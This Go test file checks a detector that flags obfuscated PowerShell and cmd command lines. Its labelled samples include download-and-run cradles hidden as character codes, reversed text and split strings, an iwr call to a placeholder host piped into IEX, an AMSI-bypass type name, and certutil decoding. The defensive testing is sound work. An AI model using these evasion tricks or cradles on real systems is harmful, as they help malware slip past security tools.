package conceal

import (
	"encoding/base64"
	"strings"
	"testing"

	"github.com/apiwatch/apiwatch/scripts/fuzzing"
)

func utf16Of(s string) string {
	b := make([]byte, 0, 2*len(s))
	for i := range len(s) {
		b = append(b, s[i], 0)
	}
	return base64.StdEncoding.EncodeToString(b)
}

func TestObfuscationSigns(t *testing.T) {
	encoded := utf16Of("Write-Output 'hello, world'")
	blob := strings.Repeat("H4sIAAb9x0Kq7vZ2", 10)
	for _, c := range []struct{ name, text, want string }{
		{"encoded", "powershell.exe -NoP -enc " + encoded, "encoded_command,encoded_text"},
		{"encoded, shortest switch", "powershell -e " + encoded, "encoded_command,encoded_text"},
		{"encoded, quoted", `powershell -EncodedCommand "` + encoded + `"`, "encoded_command,encoded_text"},
		{"not base64 of UTF-16", "tool.exe -e " + base64.StdEncoding.EncodeToString([]byte(strings.Repeat("plain text", 5))), ""},
		{"another switch", "powershell -ExecutionPolicy " + encoded, "encoded_text"},
		{"codes", "[char[]](73,69,88,32,40,78,101,119,45,79,98,106,101,99,116,32,78,101,116,46,87,101,98,67,108,105,101,110,116,41,46,68,111," +
			"119,110,108,111,97,100,70,105) -join ''|iex", "char_codes,few_codes"},
		{
			"numbers without joining",
			"$ports = 73,69,88,32,40,78,101,119,45,79,98,106,101,99,116,32,78,101,116,46,87,101,98,67,108,105,101,110,116,41,46,68,111,119,110," +
				"108,111,97,100,70,105", "",
		},
		{"pieces", "&('ne'+'w-'+'ob'+'je'+'ct') ('Sy'+'st'+'em.'+'Ra'+'nd'+'om')", "concatenation,called_pieces,split_words"},
		{"a few pieces", "$path = $root + '\\' + 'logs' + '\\' + 'today' + '.txt'; Get-Content $path", ""},
		{"order", `&("{2}{0}{3}{1}" -f'rit','ut','W','e-Outp') 'x'`, "reordering,called_pieces"},
		{"messages", "$m = 'Property {0} is wrong; expected {1}, actual {2}.'; 'Value {0} of {1} and {0}' -f $a, $b", ""},
		{"marks", "iN`VO`ke-eX`PR`eSS`Ion ge`T-dA`te", "backticks,split_words"},
		{"line ends", "Write-Host a`nb`tc`rd`ne`nf`ng", ""},
		{"carets", "cmd /c p^o^w^e^r^s^h^e^l^l", "carets,split_words"},
		{"escaped redirection", "cmd /c echo a ^> b ^& echo c", ""},
		{"case", "iNvOKe-eXpREsSIoN (gEt-cOnTeNT pAtH); wRiTe-hOsT dOnEoNe", "mixed_case"},
		{"camel case", "Get-ChildItem | Where-Object LastWriteTime | Select-Object FullName", ""},
		{"slices", "&( $eNv:COmSPEc[4,15,25]-JoIN'') 'Get-Date'", "sliced_variables"},
		{"reversed", "$s = 'etad-teg'; iex ($s[-1..-($s.Length)] -join '')", "reversed_text"},
		{
			"compressed", "IEX (New-Object IO.Compression.GzipStream([Convert]::FromBase64String('" + blob + "')))",
			"compressed_text,base64_text,run_decoded,encoded_string",
		},
		{"codec", "certutil -decode a.txt a.exe", "codec_switch"},
		{"codec under another name", `C:\Temp\c.tmp /DecodeHex a.txt a.exe`, "codec_switch"},
		{"certificate", "certutil -dump a.cer", ""},
		{"compiler", `csc.exe /out:a.exe C:\Users\Public\a.cs`, "compiled_source"},
		{"compiler of PowerShell", `csc.exe /noconfig /fullpaths @"C:\Windows\Temp\x.cmdline" /out:a.dll a.cs`, "compiled_at_run"},
		{"compiler without an output", `C:\Windows\Microsoft.NET\Framework\v4.0.30319\csc.exe C:\Users\Public\a.cs`, "compiled_source"},
		{"compiler with a list", `csc.exe @C:\src\obj\a.rsp`, ""},
		{"project in a folder for files to pass", `MSBuild.exe C:\Users\Public\a.csproj`, "build_file"},
		{"no project", `MSBuild.exe /nologo C:\Users\jdoe\Desktop\notes.xml`, "build_file"},
		{"project", `MSBuild.exe C:\Users\jdoe\source\repos\a\a.sln /t:Rebuild /p:Configuration=Release`, ""},
		{"dots of a picture", `powershell -c "sal a New-Object;$p=(a Drawing.Bitmap('x.png')).GetPixel(1,2);IEX $t"`, "picture_data"},
		{"size of a picture", `$b = New-Object Drawing.Bitmap 'x.png'; $b.GetPixel(0,0).R`, ""},
		{"script in place of a page", `mshta.exe vbscript:Execute("CreateObject(""WScript.Shell"").Run ""calc"":close")`, "inline_script"},
		{"page", `mshta.exe C:\Tools\help.hta`, ""},
		{"code in the registry", `powershell -w hidden -c "IEX (Get-ItemProperty -Path HKCU:\Software\Example -Name Data).Data"`, "stored_code"},
		{"a value of the registry", `powershell -c "(Get-ItemProperty -Path HKCU:\Software\Example -Name Data).Data"`, ""},
		{"a property of a class", `$c=[WmiClass]'root\cimv2:Win32_Example'; iex $c.Properties['Data'].Value`, "stored_code"},
		{"deciphered and run", `$a=New-Object Security.Cryptography.AesManaged; $d=$a.CreateDecryptor(); iex $t`, "decrypted_code"},
		{"deciphered", `$a=New-Object Security.Cryptography.AesManaged; $d=$a.CreateDecryptor(); $t`, ""},
		{"word in two texts", `$a='si';$b='Am';[Ref].Assembly.GetType(('System.Management.Automation.{0}{1}Utils'-f $b,$a))`, "split_words"},
		{"word of variables of cmd", `cmd /c "set q=Invoke-Expr&&set w=ession (iwr x)&&echo %q%%w%"`, "split_words"},
		{"word parted by quotes", `c""md.exe /c w"h"o"a"m"i" /a"l"l`, "split_words"},
		{"word in a format", `$a = '{0}{1}{2}' -f 'Inv','oke-Exp','ression'; & $a 'calc'`, "split_words"},
		{"plain words in quotes", `"C:\Windows\System32\cmd.exe" /c "whoami" & "C:\Tools\a.exe" "b"`, ""},
		{"a message in a format", `$m = '{0}: {1}' -f 'net','stat'; Write-Host $m`, ""},
		{"separators", `cmd.exe /c ",;,cmd.exe,;,/c,;,dir"`, "separators"},
		{"list", `cmd.exe /c for %i in (a,b;c,d) do echo %i`, ""},
		{"command by wildcards", `&(Get-Command i*k*-e*x*n) 'date'`, "wildcard_command"},
		{"command by its beginning", `& (Get-Command git*) status`, ""},
		{"program as text", `cmd /c echo TVqQAAMAAAAEAAAA//8AALgAAAAA>C:\Users\Public\a.txt`, "embedded_program"},
		{"out of a link", `cmd /c findstr /b "data" a.lnk > a.hta & a.hta`, "carved_file"},
		{"links looked through", `findstr /s /m intranet *.lnk`, ""},
		{"out of the environment", `powershell -c "iex $env:work"`, "handed_over"},
		{"the environment", `powershell -c "Write-Host $env:work"`, ""},
		{"three codes", `& ([char]73+[char]69+[char]88) (iwr http://192.0.2.9/a)`, "few_codes"},
		{"line ends by code", `$t = 'a' + [char]13 + [char]10 + 'b'; Set-Content x $t`, ""},
		{
			"protected text",
			`[Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR(($x|ConvertTo-SecureString ` +
				`-Key 1,2,3)))|iex`, "protected_text",
		},
		{
			"password",
			`[Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR(($x|ConvertTo-SecureString ` +
				`-Key 1,2,3)))`, "",
		},
		{"script in the encoded form", `wscript.exe "C:\Users\jdoe\Downloads\invoice.jse"`, "encoded_script"},
		{"script", `cscript.exe //nologo C:\Tools\report.vbs`, ""},
		{"file behind a picture", `cmd /c copy /b a.png + b.zip c.png`, "joined_files"},
		{"logs joined", `cmd /c copy /b a.log + b.log c.log`, ""},
		{"a name out of a list", `cmd /c for /f "tokens=4" %a in ('set^|findstr PSM') do %a -nop`, "joined_variables"},
		{"a list read", `cmd /c for /f "tokens=4" %a in ('netstat -an ^| findstr 443') do echo %a`, ""},
		{"words out of sight", `cmd.exe ` + strings.Repeat(" ", 200) + ` /c calc.exe`, "blanks"},
		{"a table", `Name` + strings.Repeat(" ", 200) + `Value`, ""},
		{"special", strings.Repeat("${;}=+$();${=}=${;};${+}=++${;};", 6), "special_characters,special_names"},
		{"a called name in pieces", "& ('I'+'EX') $text", "called_pieces"},
		{"a called path", "& ('C:\\Tools\\'+$name+'.exe') -x", ""},
		{"bytes changed", "powershell -c \"$b | % { $_ -bxor 0x35 }; -join [char[]]$b | iex\"", "xor"},
		{"letters shifted", "-join('HKBDOO'.ToCharArray()|%{[char]([int]$_-1)})|iex", "shifted_letters"},
		{"variables joined", "cmd /c \"set a=pow&& set b=ershell&& call %a%%b% -c calc\"", "joined_variables,split_words"},
		{"letters cut from variables", "cmd /c %ProgramData:~0,1%%ProgramData:~9,2% /c calc", "sliced_variables"},
		{"the date cut", "cmd /c copy a.log %date:~-4%%date:~3,2%%time:~0,2%.log", ""},
		{"an address as a number", "curl http://2130706433/x -o x.exe", "numeric_address"},
		{"an address in hexadecimal", "ping 0x7f000001", "numeric_address"},
		{"an address", "curl http://127.0.0.1/20260302 -o x.exe", ""},
		{"a letter of another alphabet", "cmd /c p\u043ewershell -c calc", "foreign_letters"},
		{"the reading direction turned", "C:\\Users\\ann\\invoice\u202excod.exe", "foreign_letters"},
		{"a word of another alphabet", "notepad.exe C:\\Users\\ann\\\u043e\u0442\u0447\u0435\u0442.txt", ""},
		{"words backwards", "powershell -c ')x(gnirtSdaolnwoD.)tneilCbeW.teN tcejbO-weN('", "reversed_words"},
		{"decoded and run", "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($x)))", "run_decoded,encoded_string"},
		{"decoded only", "$x = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($y))", "encoded_string"},
		{"plain", "Get-Service | Where-Object { $_.Status -eq 'Running' }", ""},
		{"short", "-e QQ==", ""},
	} {
		if got := ObfuscationSigns(c.text); got != c.want {
			t.Errorf("%s: signs %q, want %q", c.name, got, c.want)
		}
	}
}

func TestObfuscationSignsTakesAnything(t *testing.T) {
	for _, s := range []string{strings.Repeat("{", 5000), strings.Repeat("{1", 500), strings.Repeat("`", 500), "\xff\xfe" +
		strings.Repeat("\x00", 64), strings.Repeat("a", maxSigned+9), "%x%:~:~:~:~%%%%%%%%"} {
		ObfuscationSigns(s)
		PayloadEntropy(s)
	}
}

func TestPayloadEntropy(t *testing.T) {
	for _, c := range []struct {
		text string
		want int64
	}{
		{"short run", 0},
		{strings.Repeat("a", 64), 0},
		{strings.Repeat("ab", 32), 100},
		{"x " + strings.Repeat("abcd", 16) + " y", 200},
		{strings.Repeat("word ", 100), 0},
	} {
		if got := PayloadEntropy(c.text); got != c.want {
			t.Errorf("entropy of %.20q is %d, want %d", c.text, got, c.want)
		}
	}
}

// TestFilledIsBounded: what variables and formats give together grows no further than a bound, however they name each other.
func TestFilledIsBounded(t *testing.T) {
	long := strings.Repeat("b", 250)
	for name, in := range map[string]string{
		"cmd":   "`set a=" + long + "&" + strings.Repeat("%a%", 2500),
		"cmd !": "`set a=" + long + "&" + strings.Repeat("!a!", 2500),
		"names": "$a='" + long + "';" + strings.Repeat("$a", 3800),
		"formats": `"` + strings.Repeat("{0}", 100) + `" -f '` + strings.Repeat("{1}", 600) + `','` + strings.Repeat("{2}", 600) + `','` +
			strings.Repeat("{3}", 600) + `','` + strings.Repeat("{4}", 600) + `','x'`,
	} {
		for what, fill := range map[string]func(string) string{"cmd": cmdVariables, "names": psVariables, "formats": filledFormats} {
			if got := len(fill(in)); got > maxFilled+512 {
				t.Errorf("%s, %s: %d bytes of %d", name, what, got, len(in))
			}
		}
		_ = HiddenIn(in)
	}
}

// FuzzHidden lets a text be anything: what is put together of it is bounded, and so is what is said of it.
func FuzzHidden(f *testing.F) {
	f.Add("`set a=bb&%a%%a%")
	f.Add(`&("{1}{0}"-f'x','ie')`)
	f.Add("$a='b';$a+$a iex")
	f.Add(`"{0}{0}"-f'{1}{1}','{2}'`)
	f.Add("powershell -enc SQBFAFgA")
	fuzzing.Quickly(f)
	f.Fuzz(func(t *testing.T, in string) {
		for _, fill := range []func(string) string{cmdVariables, psVariables, filledFormats} {
			if got := len(fill(in)); got > max(maxFilled+512, len(in)+512) {
				t.Fatalf("%d bytes of %d", got, len(in))
			}
		}
		if h := HiddenIn(in); len(h.Signs) > 1024 {
			t.Fatalf("signs %q", h.Signs)
		}
		_, _ = StreamIn(in), StreamInScript(in)
		_ = EncodedCommand(in)
	})
}
